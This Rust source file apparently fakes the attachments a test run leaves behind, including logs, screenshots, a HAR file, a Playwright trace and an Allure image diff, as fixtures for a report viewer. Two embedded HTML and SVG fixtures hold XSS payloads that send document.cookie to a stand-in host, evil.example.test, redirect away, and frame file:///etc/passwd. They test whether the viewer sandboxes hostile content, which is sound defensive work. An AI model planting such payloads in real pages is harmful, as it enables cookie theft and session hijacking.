//! The files that tests leave behind. Nothing is held: which there are follows from the test and how it ended, and each is
//! written when it is asked for. Some are what a careful client must expect: hostile pages, a type that is not true,
//! content that is gone, an empty file, one of two gigabytes.

use std::fmt::Write as _;

use serde_json::json;

use super::archive::zip;
use super::case::Case;
use super::pictures::{Shot, png};
use super::run::Verdict;
use crate::http::content::Source;

/// A file of a result, before it is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum File {
    Log,
    Screenshot,
    Response,
    Traffic,
    Trace,
    Expected,
    Actual,
    Difference,
    Comparison,
    Page,
    Drawing,
    /// Called a picture, and none.
    FalsePicture,
    /// Content that is gone.
    Lost,
    Empty,
    LongLog,
    Huge,
}

/// What the files tell of.
pub(crate) struct Scene<'a> {
    pub(crate) case: &'a Case,
    pub(crate) run: i64,
    pub(crate) start: i64,
    /// Message and trace of a failure.
    pub(crate) words: Option<(String, String)>,
}

const MANY_LINES: usize = 12_000;
const HUGE: u64 = 2 << 30;

/// The files of a result, in the order of their ids.
pub(crate) fn files(case: &Case, verdict: Option<Verdict>) -> Vec<File> {
    let shown = case.hash.is_multiple_of(4);
    match verdict {
        Some(verdict) if verdict.is_bad() => {
            let mut files = vec![File::Log, File::Screenshot, File::Response];
            files.extend(match case.hash >> 8 & 3 {
                0 => &[File::Traffic, File::Trace][..],
                1 => &[File::Expected, File::Actual, File::Difference, File::Comparison],
                2 => &[File::Page, File::Drawing, File::FalsePicture],
                _ => &[File::Lost, File::Empty, File::LongLog],
            });
            files.extend(case.hash.is_multiple_of(23).then_some(File::Huge));
            files
        }
        Some(Verdict::Passed) if shown => vec![File::Screenshot],
        _ => Vec::new(),
    }
}

impl File {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Log => "console.log",
            Self::Screenshot => "screenshot.png",
            Self::Response => "response.json",
            Self::Traffic => "network.har",
            Self::Trace => "trace.zip",
            Self::Expected => "page-expected.png",
            Self::Actual => "page-actual.png",
            Self::Difference => "page-diff.png",
            Self::Comparison => "page",
            Self::Page => "report.html",
            Self::Drawing => "diagram.svg",
            Self::FalsePicture => "photo.png",
            Self::Lost => "video.webm",
            Self::Empty => "stderr.txt",
            Self::LongLog => "server.log",
            Self::Huge => "heap.hprof",
        }
    }

    pub(crate) fn kind(self) -> &'static str {
        match self {
            Self::Log | Self::Empty | Self::LongLog => "text/plain",
            Self::Screenshot | Self::Expected | Self::Actual | Self::Difference | Self::FalsePicture => {
                "image/png"
            }
            Self::Response | Self::Traffic => "application/json",
            Self::Trace => "application/zip",
            Self::Comparison => "application/vnd.allure.image.diff",
            Self::Page => "text/html",
            Self::Drawing => "image/svg+xml",
            Self::Lost => "video/webm",
            Self::Huge => "application/octet-stream",
        }
    }

    pub(crate) fn is_lost(self) -> bool {
        self == Self::Lost
    }

    pub(crate) fn source(self, scene: &Scene<'_>) -> Source {
        let hash = scene.case.hash;
        Source::Bytes(match self {
            Self::Huge => return Source::Zeros(HUGE),
            Self::Lost | Self::Empty => Vec::new(),
            Self::Log => log(scene, 12),
            Self::LongLog => log(scene, MANY_LINES),
            Self::Screenshot | Self::Actual => png(hash, Shot::Actual),
            Self::Expected => png(hash, Shot::Expected),
            Self::Difference => png(hash, Shot::Difference),
            Self::Comparison => comparison(hash),
            Self::Response => response(scene),
            Self::Traffic => traffic(scene),
            Self::Trace => trace(scene),
            Self::Page | Self::FalsePicture => HOSTILE_PAGE.as_bytes().to_vec(),
            Self::Drawing => HOSTILE_DRAWING.as_bytes().to_vec(),
        })
    }
}

/// Tries what must not succeed: to run, to ask elsewhere, to leave.
const HOSTILE_PAGE: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>Report</title>
<meta http-equiv="refresh" content="1;url=https://evil.example.test/left">
<script>document.title = 'ran'; fetch('https://evil.example.test/told?' + document.cookie); window.parent.ran = true;</script>
</head><body onload="alert(1)"><h1>Report</h1><p>3 checks of 4 passed.</p>
<img src="https://evil.example.test/pixel.png" onerror="alert(2)"><iframe src="file:///etc/passwd"></iframe>
<form action="https://evil.example.test/form"><input name="token"><button>Send</button></form>
<a href="javascript:alert(3)">details</a></body></html>
"#;

const HOSTILE_DRAWING: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="120" onload="alert(1)">
<script>window.parent.ran = true; fetch('https://evil.example.test/told');</script>
<image xlink:href="https://evil.example.test/pixel.png" width="1" height="1"/>
<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(2)</script></body></foreignObject>
<rect x="10" y="10" width="90" height="40" fill="#2b4c7e"/><rect x="140" y="60" width="90" height="40" fill="#2e9e6b"/>
<line x1="100" y1="30" x2="140" y2="80" stroke="#333a45"/></svg>
"##;

fn time(at: i64) -> String {
    chrono::DateTime::from_timestamp_millis(at)
        .unwrap_or_default()
        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string()
}

fn log(scene: &Scene<'_>, lines: usize) -> Vec<u8> {
    let mut text = String::new();
    for n in 0..lines {
        let level = ["INFO ", "DEBUG", "INFO ", "WARN "][n % 4];
        let what =
            ["GET /api/session 200", "cache miss", "click [data-test-id=submit]", "slow answer: 1240 ms"]
                [n % 4];
        let _ = writeln!(
            text,
            "{} {level} [{}] {what} #{n}",
            time(scene.start + n as i64 * 37),
            scene.case.feature
        );
    }
    if let Some((message, trace)) = &scene.words {
        let at = time(scene.start + lines as i64 * 37);
        let _ = writeln!(text, "{at} ERROR [{}] {}\n{message}\n{trace}", scene.case.feature, scene.case.name);
    }
    text.into_bytes()
}

fn response(scene: &Scene<'_>) -> Vec<u8> {
    let message = scene.words.as_ref().map(|(message, _)| message.as_str());
    let body = json!({
        "requestId": format!("{:016x}", scene.case.hash ^ scene.run as u64),
        "status": 500,
        "error": {"code": "E-4127", "message": message},
        "items": (0..5).map(|n| json!({"id": n + 1, "feature": scene.case.feature, "amount": n * 150})).collect::<Vec<_>>(),
    });
    serde_json::to_vec_pretty(&body).unwrap_or_default()
}

fn traffic(scene: &Scene<'_>) -> Vec<u8> {
    let entry = |(n, (method, path, status)): (usize, &(&str, &str, u16))| {
        let at = scene.start + n as i64 * 210;
        let wait = 40 + n as i64 * 35;
        json!({
            "startedDateTime": time(at),
            "time": wait + 12,
            "request": {"method": method, "url": format!("https://stage.example.test{path}"), "httpVersion": "HTTP/2",
                "headers": [{"name": "authorization", "value": "Bearer not-a-secret"}], "queryString": [], "cookies": [],
                "headersSize": -1, "bodySize": 0},
            "response": {"status": status, "statusText": "", "httpVersion": "HTTP/2", "headers": [], "cookies": [],
                "content": {"size": 21, "mimeType": "application/json", "text": "{\"result\":\"simulated\"}"},
                "redirectURL": "", "headersSize": -1, "bodySize": 21},
            "cache": {},
            "timings": {"send": 2, "wait": wait, "receive": 10},
        })
    };
    let asked = [
        ("GET", "/", 200),
        ("POST", "/api/session", 201),
        ("GET", "/api/catalogue?page=1", 200),
        ("POST", "/api/operations", 500),
        ("GET", "/favicon.ico", 404),
    ];
    let entries: Vec<_> = asked.iter().enumerate().map(entry).collect();
    let log = json!({"log": {"version": "1.2", "creator": {"name": "simulated", "version": "1"}, "pages": [], "entries": entries}});
    serde_json::to_vec(&log).unwrap_or_default()
}

/// As Playwright writes it: a line for each event, and the pictures beside them.
fn trace(scene: &Scene<'_>) -> Vec<u8> {
    let events = [
        json!({"version": 8, "type": "context-options", "origin": "library", "browserName": "chromium",
            "platform": "linux", "wallTime": scene.start, "monotonicTime": 0, "options": {}}),
        json!({"type": "before", "callId": "call@1", "startTime": 10, "class": "Page", "method": "goto",
            "params": {"url": "https://stage.example.test/"}}),
        json!({"type": "after", "callId": "call@1", "endTime": 320}),
    ];
    let lines = events.map(|event| event.to_string()).join("\n");
    zip(&[
        ("trace.trace", lines.as_bytes()),
        ("trace.network", b""),
        ("resources/page@1.png", &png(scene.case.hash, Shot::Actual)),
    ])
}

/// Three pictures in one file, as Allure's plug-ins write them.
fn comparison(hash: u64) -> Vec<u8> {
    use base64::Engine as _;
    let picture = |shot| {
        format!("data:image/png;base64,{}", base64::engine::general_purpose::STANDARD.encode(png(hash, shot)))
    };
    let pictures = json!({
        "expected": picture(Shot::Expected),
        "actual": picture(Shot::Actual),
        "diff": picture(Shot::Difference),
    });
    serde_json::to_vec(&pictures).unwrap_or_default()
}
